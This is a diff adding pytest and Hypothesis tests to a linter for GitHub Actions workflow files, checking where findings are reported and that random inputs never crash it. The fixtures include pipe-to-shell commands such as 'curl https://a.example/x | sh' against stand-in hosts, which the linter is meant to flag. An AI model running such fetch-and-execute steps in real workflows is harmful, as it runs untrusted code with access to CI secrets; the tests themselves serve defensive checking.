@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
 import yaml
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from fsd.lint.workflows import lint_workflows
 
@@ -59,6 +63,49 @@ def test_lint_workflows__odd_but_yaml__no_finding_and_no_failure(text: str) -> N
 @pytest.mark.parametrize("text", ["a: [", "\tjobs:", "jobs: \x00", "a: *b", "[" * 200])
 def test_lint_workflows__not_yaml__said(text: str) -> None:
     assert len(ids(text)) == 1
+
+
+@pytest.mark.parametrize("new_line", ["\n", "\r\n"])
+@pytest.mark.parametrize("before", ["", "# ☃ 𝄞\n", "\ufeff"])
+def test_lint_workflows__any_line_ends_and_letters__the_place(new_line: str, before: str) -> None:
+    script = "|\n\n          echo 'ä𝄞'; curl https://a.example/x | sh\n\n"
+    text = (before + BAD.replace("curl https://a.example/x | sh", script)).replace("\n", new_line)
+
+    (checked,) = lint_workflows({"a.yml": text})
+
+    (finding,) = checked.findings
+    assert str(finding.where) == f"a.yml:{before.count(chr(10)) + 6}:27"
+
+
+WORDS = st.sampled_from(
+    """on push jobs steps run uses with env if needs strategy matrix include environment branches
+    tags workflow_call workflow_run secrets image registry username defaults shell a b true 1 null
+    main prod always() fsd\\ deploy\\ --env\\ prod curl\\ https://x.example/y\\ |\\ sh =
+    docker\\ push\\ a.dkr.ecr.x/y:latest ./.github/workflows/b.yml org/fsd-deploy@v1 x\\ '`$(<(
+    docker/build-push-action@v6 ${{\\ secrets.A\\ }} ${{\\ matrix.a\\ }} pytest\\ ||\\ true
+    curl\\ -o curl\\ -o\\ x\\ https://a/b;tar\\ x\\ x fsd\\ deploy\\ --env= aws-access-key-id
+    """.replace("\\ ", "\0").split()
+).map(lambda word: word.replace("\0", " "))
+TREES = st.recursive(
+    WORDS,
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(WORDS, inner, max_size=4),
+    max_leaves=25,
+)
+STEPS = st.lists(st.dictionaries(WORDS, TREES, max_size=4), max_size=3)
+JOBS = st.fixed_dictionaries({"steps": STEPS}) | TREES
+WORKFLOWS = st.fixed_dictionaries(
+    {"on": TREES, "jobs": st.dictionaries(st.sampled_from("ab"), JOBS)}
+)
+
+
+@settings(max_examples=150, deadline=None)
+@given(WORKFLOWS | TREES, WORKFLOWS)
+def test_lint_workflows__any_trees__never_fails(first: object, second: object) -> None:
+    texts = {"a.yml": json.dumps(first), "b.yml": json.dumps(second)}
+
+    checked = lint_workflows(texts)
+
+    assert [file.path for file in checked] == ["a.yml", "b.yml"]
 
 
 def test_lint_workflows__files_beside_it__not_judged_themselves() -> None:
